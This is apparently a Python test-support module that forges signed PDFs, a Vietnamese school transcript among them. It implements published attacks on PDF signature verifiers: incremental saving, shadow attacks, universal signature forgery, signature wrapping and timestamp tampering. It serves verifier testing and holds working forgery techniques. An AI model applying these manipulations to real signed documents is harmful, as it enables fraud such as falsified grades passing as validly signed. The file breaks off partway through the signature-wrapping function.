"""Manipulations of signed PDFs, one function per attack class, applied to documents the tests have
just signed (fresh signatures, fresh PKI).

Each takes the signed bytes and returns the manipulated bytes; none of them can re-sign, so any verdict
other than a failure means the verifier was fooled. The classes follow the literature on PDF signature
attacks (Mladenov et al., "1 Trillion Dollar Refund", CCS 2019: incremental saving, signature wrapping,
universal signature forgery; Mainka et al., "Shadow attacks", NDSS 2021) and the ETSI plugtests.
"""

from __future__ import annotations

import re
from io import BytesIO

from asn1crypto import cms, core, tsp
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.pdf_utils.writer import PageObject, PdfFileWriter

_START_XREF = re.compile(rb"startxref\s+(\d+)\s+%%EOF\s*$")


def last_startxref(pdf: bytes) -> int:
    match = _START_XREF.search(pdf[-64:])
    assert match, "not a PDF ending in startxref/%%EOF"
    return int(match.group(1))


def content_stream_ref(pdf: bytes, page: int = 0) -> tuple[int, bytes]:
    """The object number of page ``page``'s content stream, and its decoded text."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    page_obj = reader.root["/Pages"]["/Kids"][page]
    reference = page_obj.raw_get("/Contents")
    assert isinstance(reference, generic.IndirectObject)
    stream = reference.get_object()
    assert isinstance(stream, generic.StreamObject)
    return reference.idnum, stream.data


def _stream_object(number: int, data: bytes) -> bytes:
    return (
        b"%d 0 obj\n<< /Length %d >>\nstream\n" % (number, len(data))
        + data
        + b"\nendstream\nendobj\n"
    )


def _forged_content(pdf: bytes, old: bytes, new: bytes) -> tuple[int, bytes]:
    number, text = content_stream_ref(pdf)
    assert old in text, f"{old!r} is not on the signed page"
    return number, _stream_object(number, text.replace(old, new))


# -- Incremental Saving Attack (ISA) ---------------------------------------------------------------


def isa_behind_empty_xref(pdf: bytes, old: bytes, new: bytes) -> bytes:
    """ISA: the page's content redefined after ``%%EOF``, behind an xref section with no entries.

    A reader that trusts the xref sees "a later revision without changes"; a viewer that rebuilds the
    cross-reference table (it finds an object the table does not list) shows the forged content."""
    number, body = _forged_content(pdf, old, new)
    prev = last_startxref(pdf)
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    size = int(reader.trailer["/Size"])
    tail = bytearray(b"\n")
    tail += body
    xref_at = len(pdf) + len(tail)
    tail += b"xref\ntrailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (
        size,
        reader.root_ref.idnum,
        prev,
    )
    tail += b"startxref\n%d\n%%%%EOF\n" % xref_at
    del number
    return pdf + bytes(tail)


def isa_without_xref(pdf: bytes, old: bytes, new: bytes) -> bytes:
    """ISA: the forged object appended with no cross-reference section and no trailer at all."""
    _, body = _forged_content(pdf, old, new)
    return pdf + b"\n" + body


def isa_dangling_startxref(pdf: bytes, old: bytes, new: bytes) -> bytes:
    """ISA: the forged object, then a ``startxref`` that points nowhere: a reader that falls back to
    the previous table sees nothing new, a viewer that rebuilds sees the forgery."""
    _, body = _forged_content(pdf, old, new)
    return pdf + b"\n" + body + b"startxref\n%d\n%%%%EOF\n" % (len(pdf) * 3 + 12345)


def isa_unlisted_object_in_update(pdf: bytes, old: bytes, new: bytes) -> bytes:
    """ISA: a well-formed incremental update (an innocent object, listed in its xref) that also
    carries the forged page content, not listed."""
    number, body = _forged_content(pdf, old, new)
    prev = last_startxref(pdf)
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    size = int(reader.trailer["/Size"])
    tail = bytearray(b"\n")
    tail += body
    innocent_at = len(pdf) + len(tail)
    tail += b"%d 0 obj\n(nothing to see)\nendobj\n" % size
    xref_at = len(pdf) + len(tail)
    tail += b"xref\n%d 1\n%010d 00000 n \n" % (size, innocent_at)
    tail += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (
        size + 1,
        reader.root_ref.idnum,
        prev,
    )
    tail += b"startxref\n%d\n%%%%EOF\n" % xref_at
    del number
    return pdf + bytes(tail)


def isa_object_defined_twice(pdf: bytes, old: bytes, new: bytes) -> bytes:
    """ISA: an update whose xref lists the page content at its first definition (unchanged), while a
    second definition of the same object follows (the one a rebuilding viewer keeps)."""
    number, forged = _forged_content(pdf, old, new)
    _, text = content_stream_ref(pdf)
    prev = last_startxref(pdf)
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    size = int(reader.trailer["/Size"])
    tail = bytearray(b"\n")
    listed_at = len(pdf) + len(tail)
    tail += _stream_object(number, text)
    tail += forged
    xref_at = len(pdf) + len(tail)
    tail += b"xref\n%d 1\n%010d 00000 n \n" % (number, listed_at)
    tail += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (
        size,
        reader.root_ref.idnum,
        prev,
    )
    tail += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return pdf + bytes(tail)


def trailing_garbage(pdf: bytes) -> bytes:
    """Bytes after the last ``%%EOF`` that are no PDF structure at all."""
    return pdf + b"\x00\x01garbage after the end of the file\xff" * 4


def honest_content_change(pdf: bytes, old: bytes, new: bytes) -> bytes:
    """Control: the page content changed in a well-formed incremental update (no trickery). Every
    verifier must fail it; the ISA variants above must fail the same way."""
    number, text = content_stream_ref(pdf)
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    stream = generic.StreamObject(stream_data=text.replace(old, new))
    writer.mark_update(generic.Reference(number, 0, writer))
    writer.objects[(0, number)] = stream
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


# -- timestamps --------------------------------------------------------------------------------------


def _signature_contents(pdf: bytes, index: int = -1) -> tuple[int, int, bytes]:
    """Where the hex ``/Contents`` of signature ``index`` sits in the file, and its DER."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    embedded = reader.embedded_signatures[index]
    byte_range = [int(v) for v in embedded.sig_object["/ByteRange"]]
    start, end = byte_range[1] + 1, byte_range[2] - 1  # inside the < >
    der = bytes.fromhex(pdf[start:end].decode("ascii"))
    content_info = cms.ContentInfo.load(der)
    return start, end, content_info.dump()


def _replace_contents(pdf: bytes, index: int, new_der: bytes) -> bytes:
    start, end, _ = _signature_contents(pdf, index)
    hex_der = new_der.hex().encode()
    assert len(hex_der) <= end - start, "the new container does not fit the reserved space"
    return pdf[:start] + hex_der.ljust(end - start, b"0") + pdf[end:]


def _with_signature_timestamp(pdf: bytes, index: int, edit: object) -> bytes:
    _, _, der = _signature_contents(pdf, index)
    content_info = cms.ContentInfo.load(der)
    signer_info = content_info["content"]["signer_infos"][0]
    unsigned = signer_info["unsigned_attrs"]
    for attribute in unsigned:
        if attribute["type"].native == "signature_time_stamp_token":
            token = attribute["values"][0]
            new_token = edit(token)  # type: ignore[operator]
            attribute["values"] = cms.SetOfContentInfo([new_token])
            break
    else:
        raise AssertionError("the signature carries no timestamp token")
    return _replace_contents(pdf, index, cms.ContentInfo.load(content_info.dump(force=True)).dump())


def timestamp_gentime_edited(pdf: bytes, index: int = -1) -> bytes:
    """The signature timestamp's ``genTime`` moved a year back. The token is an unsigned attribute of
    the signature, so the document digest is unaffected; only the token's own signature breaks."""

    def edit(token: cms.ContentInfo) -> cms.ContentInfo:
        signed = token["content"]
        info = tsp.TSTInfo.load(signed["encap_content_info"]["content"].parsed.dump())
        gen_time = info["gen_time"].native
        info["gen_time"] = gen_time.replace(year=gen_time.year - 1)
        signed["encap_content_info"]["content"] = core.ParsableOctetString(info.dump(force=True))
        return cms.ContentInfo.load(token.dump(force=True))

    return _with_signature_timestamp(pdf, index, edit)


def timestamp_signature_broken(pdf: bytes, index: int = -1) -> bytes:
    """The signature timestamp token's own signature value with one bit flipped."""

    def edit(token: cms.ContentInfo) -> cms.ContentInfo:
        signer = token["content"]["signer_infos"][0]
        value = bytearray(signer["signature"].native)
        value[len(value) // 2] ^= 0x01
        signer["signature"] = bytes(value)
        return cms.ContentInfo.load(token.dump(force=True))

    return _with_signature_timestamp(pdf, index, edit)


def timestamp_copied_from(pdf: bytes, donor: bytes, index: int = -1) -> bytes:
    """The signature timestamp replaced by the (valid) token of another signature: its message
    imprint is the digest of the other signature's value."""
    _, _, donor_der = _signature_contents(donor, -1)
    donor_signer = cms.ContentInfo.load(donor_der)["content"]["signer_infos"][0]
    donor_token = next(
        a["values"][0]
        for a in donor_signer["unsigned_attrs"]
        if a["type"].native == "signature_time_stamp_token"
    )

    def edit(_: cms.ContentInfo) -> cms.ContentInfo:
        return cms.ContentInfo.load(donor_token.dump())

    return _with_signature_timestamp(pdf, index, edit)


# -- the CMS container ------------------------------------------------------------------------------


def signed_attributes_not_der(pdf: bytes, index: int = -1) -> bytes:
    """The signed attributes stored out of DER's SET OF order, the signature value kept.

    A verifier that hashes the attributes as they are stored finds the signature valid; CMS (RFC 5652
    §5.4) signs their DER encoding, over which the value does not verify."""
    _, _, der = _signature_contents(pdf, index)
    signer_info = cms.ContentInfo.load(der)["content"]["signer_infos"][0]
    stored = signer_info["signed_attrs"].dump()
    encoded = [attribute.dump() for attribute in signer_info["signed_attrs"]]
    assert encoded == sorted(encoded), "pyHanko writes DER order"
    body = b"".join(encoded)
    reordered = stored[: len(stored) - len(body)] + b"".join(reversed(encoded))
    assert der.count(stored) == 1
    return _replace_contents(pdf, index, der.replace(stored, reordered))


def isa_behind_empty_xref_stream(pdf: bytes, old: bytes, new: bytes) -> bytes:
    """ISA: the page's content redefined after ``%%EOF``, behind a cross-reference *stream* that
    lists no object (``/Index []``): the update is well formed to a reader that follows the chain and
    "changes nothing"; a viewer that rebuilds the table shows the forgery."""
    _, body = _forged_content(pdf, old, new)
    prev = last_startxref(pdf)
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    size = int(reader.trailer["/Size"])
    tail = bytearray(b"\n")
    tail += body
    xref_at = len(pdf) + len(tail)
    tail += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [] /Root %d 0 R /Prev %d"
        b" /Length 0 >>\nstream\n\nendstream\nendobj\n"
        % (size, size + 1, reader.root_ref.idnum, prev)
    )
    tail += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return pdf + bytes(tail)


def document_timestamp_broken(pdf: bytes) -> bytes:
    """The B-LTA document timestamp's own signature value with one bit flipped."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    index = next(
        i for i, e in enumerate(reader.embedded_signatures) if e.sig_object_type == "/DocTimeStamp"
    )
    _, _, der = _signature_contents(pdf, index)
    token = cms.ContentInfo.load(der)
    signer = token["content"]["signer_infos"][0]
    value = bytearray(signer["signature"].native)
    value[len(value) // 2] ^= 0x01
    signer["signature"] = bytes(value)
    return _replace_contents(pdf, index, token.dump(force=True))


# -- removing or hiding signatures -------------------------------------------------------------------


def _update_catalog(pdf: bytes, edit: object) -> bytes:
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    edit(writer)  # type: ignore[operator]
    writer.update_root()
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def acroform_removed(pdf: bytes) -> bytes:
    """The ``/AcroForm`` dictionary removed from the catalogue in a later update: a reader that finds
    signatures through the form sees an unsigned document."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        del writer.root["/AcroForm"]

    return _update_catalog(pdf, edit)


def signature_field_dropped(pdf: bytes) -> bytes:
    """The last signature's field taken out of ``/AcroForm /Fields`` in a later update."""

    def edit(writer: IncrementalPdfFileWriter) -> None:
        form = writer.root["/AcroForm"]
        fields = form["/Fields"]
        kept = generic.ArrayObject(list(fields)[:-1])
        form[generic.pdf_name("/Fields")] = kept
        form_ref = writer.root.raw_get("/AcroForm")
        if isinstance(form_ref, generic.IndirectObject):
            writer.mark_update(form_ref)

    return _update_catalog(pdf, edit)


def subfilter_renamed(pdf: bytes) -> bytes:
    """The signature's ``/SubFilter`` renamed in place (same length): pyHanko skips signatures of an
    unknown format, so the document would read as unsigned."""
    marker = b"/SubFilter /ETSI.CAdES.detached"
    assert marker in pdf
    return pdf.replace(marker, b"/SubFilter /ETSI.CAdES.detachex", 1)


def empty_signature_field_added(pdf: bytes) -> bytes:
    """A well-formed update that only adds an empty signature placeholder (legitimate: a field for
    the next signer). Verification must report the real signatures and the empty field."""
    from pyhanko.sign import fields

    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    fields.append_signature_field(
        writer, fields.SigFieldSpec("ChoNguoiKyTiepTheo", on_page=0, box=(300, 60, 500, 120))
    )
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


# -- documents with form fields ----------------------------------------------------------------------

_n = generic.pdf_name


def _appearance(writer: object, text: str) -> generic.IndirectObject:
    data = b"/Tx BMC BT /Helv 12 Tf 2 6 Td (" + text.encode("latin-1") + b") Tj ET EMC"
    return writer.add_object(  # type: ignore[attr-defined, no-any-return]
        generic.StreamObject(
            {
                _n("/Type"): _n("/XObject"),
                _n("/Subtype"): _n("/Form"),
                _n("/BBox"): generic.ArrayObject(
                    [generic.NumberObject(v) for v in (0, 0, 100, 20)]
                ),
            },
            stream_data=data,
        )
    )


def form_pdf(fields: dict[str, str | None]) -> bytes:
    """A one-page transcript with text fields (``None``: left empty), each with its appearance."""
    from pyhanko.pdf_utils.writer import PdfFileWriter

    writer = PdfFileWriter()
    font = writer.add_object(
        generic.DictionaryObject(
            {
                _n("/Type"): _n("/Font"),
                _n("/Subtype"): _n("/Type1"),
                _n("/BaseFont"): _n("/Helvetica"),
            }
        )
    )
    content = writer.add_object(
        generic.StreamObject(stream_data=b"BT /F1 12 Tf 72 770 Td (HOC BA - Bang diem) Tj ET")
    )
    page = generic.DictionaryObject(
        {
            _n("/Type"): _n("/Page"),
            _n("/MediaBox"): generic.ArrayObject(
                [generic.NumberObject(v) for v in (0, 0, 595, 842)]
            ),
            _n("/Contents"): content,
            _n("/Resources"): generic.DictionaryObject(
                {_n("/Font"): generic.DictionaryObject({_n("/F1"): font})}
            ),
        }
    )
    page_ref = writer.insert_page(page)
    annotations = generic.ArrayObject()
    y = 700
    for name, value in fields.items():
        widget = generic.DictionaryObject(
            {
                _n("/FT"): _n("/Tx"),
                _n("/T"): generic.TextStringObject(name),
                _n("/Type"): _n("/Annot"),
                _n("/Subtype"): _n("/Widget"),
                _n("/Rect"): generic.ArrayObject(
                    [generic.NumberObject(v) for v in (72, y, 172, y + 20)]
                ),
                _n("/P"): page_ref,
                _n("/F"): generic.NumberObject(4),
                _n("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
            }
        )
        if value is not None:
            widget[_n("/V")] = generic.TextStringObject(value)
            widget[_n("/AP")] = generic.DictionaryObject({_n("/N"): _appearance(writer, value)})
        annotations.append(writer.add_object(widget))
        y -= 40
    page_ref.get_object()[_n("/Annots")] = annotations
    helvetica = writer.add_object(
        generic.DictionaryObject(
            {
                _n("/Type"): _n("/Font"),
                _n("/Subtype"): _n("/Type1"),
                _n("/BaseFont"): _n("/Helvetica"),
            }
        )
    )
    writer.root[_n("/AcroForm")] = writer.add_object(
        generic.DictionaryObject(
            {
                _n("/Fields"): generic.ArrayObject(list(annotations)),
                _n("/DR"): generic.DictionaryObject(
                    {_n("/Font"): generic.DictionaryObject({_n("/Helv"): helvetica})}
                ),
            }
        )
    )
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def grouped_form(pdf: bytes, group: str = "diem") -> bytes:
    """``pdf`` (a :func:`form_pdf`, before signing) with its fields made the kids of one parent
    field ``group``, which alone holds the type and the default appearance (``/DA``) they inherit,
    and the form set to be redrawn by viewers (``/NeedAppearances true``): what the signer saw is
    drawn from the parent's ``/DA``."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    form_ref = writer.root.raw_get("/AcroForm")
    form = form_ref.get_object()
    kids = generic.ArrayObject(form["/Fields"].raw_get(i) for i in range(len(form["/Fields"])))
    parent = writer.add_object(
        generic.DictionaryObject(
            {
                _n("/T"): generic.TextStringObject(group),
                _n("/FT"): _n("/Tx"),
                _n("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
                _n("/Kids"): kids,
            }
        )
    )
    for kid in kids:
        field = kid.get_object()
        del field["/FT"], field["/DA"]
        field[_n("/Parent")] = parent
        writer.mark_update(kid)
    form[_n("/Fields")] = generic.ArrayObject([parent])
    form[_n("/NeedAppearances")] = generic.BooleanObject(True)
    writer.mark_update(form_ref)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def refill_field(pdf: bytes, name: str, value: str, *, value_too: bool = True) -> bytes:
    """Form-field refill: field ``name`` given a new appearance (and, with ``value_too``, a new
    value) in a well-formed incremental update, as form-filling software would."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    for reference in writer.root["/AcroForm"]["/Fields"]:
        field = reference.get_object()
        if field["/T"] == name:
            if value_too:
                field[_n("/V")] = generic.TextStringObject(value)
            field[_n("/AP")] = generic.DictionaryObject({_n("/N"): _appearance(writer, value)})
            writer.mark_update(reference)
            break
    else:
        raise AssertionError(f"no field {name!r}")
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


# -- active content ----------------------------------------------------------------------------------


def with_open_action_javascript(pdf: bytes) -> bytes:
    """A document that runs JavaScript when opened (``/OpenAction``), as a fresh (unsigned) file."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    action = writer.add_object(
        generic.DictionaryObject(
            {
                _n("/Type"): _n("/Action"),
                _n("/S"): _n("/JavaScript"),
                _n("/JS"): generic.TextStringObject("app.alert('diem da sua');"),
            }
        )
    )
    writer.root[_n("/OpenAction")] = action
    writer.update_root()
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def with_executable_attachment(pdf: bytes) -> bytes:
    """A document carrying an embedded Windows program (``/EmbeddedFiles``)."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    program = writer.add_object(
        generic.StreamObject(
            {_n("/Type"): _n("/EmbeddedFile")}, stream_data=b"MZ\x90\x00" + bytes(60)
        )
    )
    spec = writer.add_object(
        generic.DictionaryObject(
            {
                _n("/Type"): _n("/Filespec"),
                _n("/F"): generic.TextStringObject("bang-diem.exe"),
                _n("/EF"): generic.DictionaryObject({_n("/F"): program}),
            }
        )
    )
    names = generic.DictionaryObject(
        {
            _n("/EmbeddedFiles"): generic.DictionaryObject(
                {
                    _n("/Names"): generic.ArrayObject(
                        [generic.TextStringObject("bang-diem.exe"), spec]
                    )
                }
            )
        }
    )
    writer.root[_n("/Names")] = names
    writer.update_root()
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


# -- signatures made by a valid key over a malformed container -----------------------------------


def _byte_range_content(pdf: bytes, index: int = -1) -> bytes:
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    a, b, c, d = (int(v) for v in reader.embedded_signatures[index].sig_object["/ByteRange"])
    return pdf[a : a + b] + pdf[c : c + d]


def resign_over_ber_signed_attributes(pdf: bytes, key: rsa.RSAPrivateKey) -> bytes:
    """BER signed attributes: the signer (holding a valid, trusted key) stores its signed attributes
    out of DER order and signs exactly those bytes. A verifier that hashes the stored encoding finds
    it valid; CMS signs the DER encoding (RFC 5652 §5.4), and EU DSS rejects it."""
    _, _, der = _signature_contents(pdf, -1)
    signer_info = cms.ContentInfo.load(der)["content"]["signer_infos"][0]
    stored = signer_info["signed_attrs"].dump()
    encoded = [attribute.dump() for attribute in signer_info["signed_attrs"]]
    reordered = stored[: len(stored) - len(b"".join(encoded))] + b"".join(reversed(encoded))
    signature = key.sign(b"\x31" + reordered[1:], padding.PKCS1v15(), hashes.SHA256())
    old = signer_info["signature"].native
    assert len(signature) == len(old) and der.count(old) == 1
    return _replace_contents(pdf, -1, der.replace(stored, reordered).replace(old, signature))


def resign_without_signed_attributes(pdf: bytes, key: rsa.RSAPrivateKey) -> bytes:
    """No signed attributes: the signature value is made directly over the signed bytes, as plain
    CMS allows. PAdES requires signed attributes (the signing certificate among them)."""
    _, _, der = _signature_contents(pdf, -1)
    content_info = cms.ContentInfo.load(der)
    signer_info = content_info["content"]["signer_infos"][0]
    signer_info["signed_attrs"] = None
    signer_info["signature"] = key.sign(
        _byte_range_content(pdf), padding.PKCS1v15(), hashes.SHA256()
    )
    return _replace_contents(pdf, -1, content_info.dump(force=True))


def content_change_inside_a_dss_update(pdf: bytes, old: bytes, new: bytes) -> bytes:
    """A revision dressed as long-term validation data (the catalogue gains a /DSS, as a B-LT update
    does) that also rewrites the page content: what a shortcut for "DSS-only" updates must not let
    through."""
    number, text = content_stream_ref(pdf)
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    certificate = writer.add_object(generic.StreamObject(stream_data=b"\x30\x03\x02\x01\x00"))
    writer.root[_n("/DSS")] = writer.add_object(
        generic.DictionaryObject({_n("/Certs"): generic.ArrayObject([certificate])})
    )
    writer.update_root()
    writer.mark_update(generic.Reference(number, 0, writer))
    writer.objects[(0, number)] = generic.StreamObject(stream_data=text.replace(old, new))
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


# -- Shadow attacks (Mainka et al., NDSS 2021) ----------------------------------------------------
# The attacker prepares the document *before* it is signed: it holds content the signer does not
# see, then a later update that looks harmless reveals it.

_HIDDEN = b"BT /F1 24 Tf 72 700 Td (Diem Toan: 10) Tj ET"
_OVERLAY = b"1 1 1 rg 60 690 300 40 re f BT 0 0 0 rg /F1 24 Tf 72 700 Td (Diem Toan: 7) Tj ET"


def _one_page(contents: object) -> bytes:
    """A one-page A4 document in Helvetica (``/F1``) whose page draws ``contents``: a function of
    the writer that returns the page's content references."""
    from pyhanko.pdf_utils.writer import PdfFileWriter

    writer = PdfFileWriter()
    font = generic.DictionaryObject(
        {_n("/Type"): _n("/Font"), _n("/Subtype"): _n("/Type1"), _n("/BaseFont"): _n("/Helvetica")}
    )
    page = generic.DictionaryObject(
        {
            _n("/Type"): _n("/Page"),
            _n("/MediaBox"): generic.ArrayObject(
                [generic.NumberObject(v) for v in (0, 0, 595, 842)]
            ),
            _n("/Contents"): generic.ArrayObject(contents(writer)),  # type: ignore[operator]
            _n("/Resources"): generic.DictionaryObject(
                {_n("/Font"): generic.DictionaryObject({_n("/F1"): writer.add_object(font)})}
            ),
        }
    )
    writer.insert_page(page)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def overlay_pdf() -> bytes:
    """A one-page transcript whose page draws "Diem Toan: 10", then a white box over it with
    "Diem Toan: 7" on top: the signer sees 7 (the page's second content stream hides the first)."""
    return _one_page(
        lambda writer: [
            writer.add_object(generic.StreamObject(stream_data=_HIDDEN)),
            writer.add_object(generic.StreamObject(stream_data=_OVERLAY)),
        ]
    )


def _page_and_contents(pdf: bytes) -> tuple[generic.IndirectObject, list[generic.IndirectObject]]:
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    page_ref = reader.root["/Pages"].raw_get("/Kids").raw_get(0)
    contents = page_ref.get_object().raw_get("/Contents")
    assert isinstance(contents, generic.ArrayObject), "not the overlay document"
    return page_ref, [contents.raw_get(i) for i in range(len(contents))]


def _serialised(value: generic.PdfObject) -> bytes:
    out = BytesIO()
    value.write_to_stream(out)
    return out.getvalue()


def _xref_stream_update(
    pdf: bytes,
    objects: dict[int, bytes],
    entries: dict[int, tuple[int, int, int]],
    *,
    with_dss: bool,
) -> bytes:
    """A well-formed incremental update (cross-reference stream, ``/Prev`` right): ``objects``
    (number -> serialised value) written and listed, plus the raw ``entries`` (type 0 frees,
    type 2 places an object in an object stream). ``with_dss``: the catalogue also gains a
    ``/DSS``, as a B-LT update's does."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    size = int(reader.trailer["/Size"])
    root = reader.trailer.raw_get("/Root")
    objects = dict(objects)
    if with_dss:
        catalog = generic.DictionaryObject(reader.root)
        catalog[_n("/DSS")] = generic.IndirectObject(size, 0, reader)
        objects[root.idnum] = _serialised(catalog)
        objects[size] = b"<< /Certs [] >>"
        size += 1
    numbered = {**objects}
    stream_numbers = [n for n in entries if entries[n][0] == 2]
    body = bytearray(b"\n")
    offsets: dict[int, int] = {}
    for number, value in numbered.items():
        offsets[number] = len(pdf) + len(body)
        body += b"%d 0 obj\n" % number + value + b"\nendobj\n"
    xref_number = max([size - 1, *numbered, *entries, *stream_numbers]) + 1
    xref_offset = len(pdf) + len(body)
    rows = {n: (1, offset, 0) for n, offset in offsets.items()}
    rows.update(entries)
    rows[xref_number] = (1, xref_offset, 0)
    data = b"".join(
        bytes([rows[n][0]]) + rows[n][1].to_bytes(4, "big") + rows[n][2].to_bytes(2, "big")
        for n in sorted(rows)
    )
    index = b" ".join(b"%d 1" % n for n in sorted(rows))
    body += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Index [%s] /Root %d 0 R /Prev %d"
        b" /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, index, root.idnum, last_startxref(pdf), len(data))
        + data
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return pdf + bytes(body)


def shadow_hide_by_freeing(pdf: bytes, *, with_dss: bool) -> bytes:
    """Shadow attack, *hide*: a later update only frees the overlay (its xref marks the object
    free, nothing is written over it); a viewer resolves the page's reference to null and shows
    "Diem Toan: 10". ``with_dss``: dressed as long-term validation data."""
    _, (_, overlay) = _page_and_contents(pdf)
    out = _xref_stream_update(pdf, {}, {overlay.idnum: (0, 0, 1)}, with_dss=with_dss)
    reader = PdfFileReader(BytesIO(out), strict=False)
    shown = reader.root["/Pages"]["/Kids"][0]["/Contents"]
    assert isinstance(shown[1], generic.NullObject), "the overlay is still shown"
    return out


def shadow_replace_in_object_stream(pdf: bytes, *, with_dss: bool) -> bytes:
    """Shadow attack, *hide-and-replace*: the page dictionary redefined inside an object stream of
    a later update (object streams hold no stream data, so nothing new is drawn): its
    ``/Contents`` is the hidden stream alone. ``with_dss``: dressed as validation data."""
    page_ref, (hidden, _) = _page_and_contents(pdf)
    page = generic.DictionaryObject(page_ref.get_object())
    page[_n("/Contents")] = generic.ArrayObject([hidden])
    header = b"%d 0 " % page_ref.idnum
    packed = header + _serialised(page)
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    stream_number = int(reader.trailer["/Size"]) + 1  # after the /DSS's number
    object_stream = (
        b"<< /Type /ObjStm /N 1 /First %d /Length %d >>\nstream\n" % (len(header), len(packed))
        + packed
        + b"\nendstream"
    )
    out = _xref_stream_update(
        pdf,
        {stream_number: object_stream},
        {page_ref.idnum: (2, stream_number, 0)},
        with_dss=with_dss,
    )
    shown = PdfFileReader(BytesIO(out), strict=False).root["/Pages"]["/Kids"][0]["/Contents"]
    assert len(shown) == 1, "the page still draws the overlay"
    return out


# -- Universal Signature Forgery (USF) and Signature Wrapping (SWA) ---------------------------------


def usf_signature_dictionary(pdf: bytes, variant: str) -> bytes:
    """USF: a later update rewrites the last signature's dictionary so that nothing is left to
    check — ``/Contents`` or ``/ByteRange`` removed, emptied or zeroed — while the field still
    holds a signature a viewer lists. ``variant``: ``contents-removed``, ``contents-empty``,
    ``byterange-removed``, ``byterange-zeroed``."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    field = writer.root["/AcroForm"]["/Fields"][-1]
    value = field.raw_get("/V")
    assert isinstance(value, generic.IndirectObject)
    signature = value.get_object()
    if variant == "contents-removed":
        del signature["/Contents"]
    elif variant == "contents-empty":
        signature[_n("/Contents")] = generic.ByteStringObject(b"")
    elif variant == "byterange-removed":
        del signature["/ByteRange"]
    elif variant == "byterange-zeroed":
        signature[_n("/ByteRange")] = generic.ArrayObject([generic.NumberObject(0)] * 4)
    else:
        raise ValueError(variant)
    writer.mark_update(value)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def usf_unsigned(pdf: bytes) -> bytes:
    """USF on a document never signed: a signature field whose value names a signer's format and
    the principal's name, with no ``/Contents`` or ``/ByteRange`` at all."""
    writer = IncrementalPdfFileWriter(BytesIO(pdf), strict=False)
    signature = writer.add_object(
        generic.DictionaryObject(
            {
                _n("/Type"): _n("/Sig"),
                _n("/Filter"): _n("/Adobe.PPKLite"),
                _n("/SubFilter"): _n("/ETSI.CAdES.detached"),
                _n("/Name"): generic.TextStringObject("Hiệu trưởng"),
            }
        )
    )
    page = writer.root["/Pages"].raw_get("/Kids").raw_get(0)
    field = writer.add_object(
        generic.DictionaryObject(
            {
                _n("/FT"): _n("/Sig"),
                _n("/T"): generic.TextStringObject("Signature1"),
                _n("/V"): signature,
                _n("/Type"): _n("/Annot"),
                _n("/Subtype"): _n("/Widget"),
                _n("/Rect"): generic.ArrayObject([generic.NumberObject(0)] * 4),
                _n("/P"): page,
            }
        )
    )
    writer.root[_n("/AcroForm")] = generic.DictionaryObject(
        {_n("/Fields"): generic.ArrayObject([field])}
    )
    writer.update_root()
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def signature_wrapping(pdf: bytes, old: bytes, new: bytes) -> bytes:
    """SWA: the signed bytes kept, moved apart. pyHanko writes ``/ByteRange`` after ``/Contents``,
    so the second signed part starts inside the signature dictionary. That part goes to the end of
    the file; where it was, the signature dictionary is closed again with a ``/ByteRange`` that
    points at the moved part (the signed one, moved along, still says the old offsets), the page
    content redefined, and a cross-reference table at the offset the signed ``startxref`` names —
    so a reader that follows it shows the forgery, while the byte ranges hash exactly as signed."""
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    embedded = reader.embedded_signatures[-1]
    _, first_length, second_start, second_length = (
        int(v) for v in embedded.sig_object["/ByteRange"]
    )
    assert second_start + second_length == len(pdf), "the signature does not end the file"
    head, tail = pdf[:first_length], pdf[second_start:]
    xref_at = last_startxref(pdf)
    revision = reader.xrefs.total_revisions - 1
    refs = {
        ref.idnum: reader.xrefs.get_historical_ref(ref, revision)
        for ref in reader.xrefs.explicit_refs_in_revision(revision)
    }
    number, text = content_stream_ref(pdf)
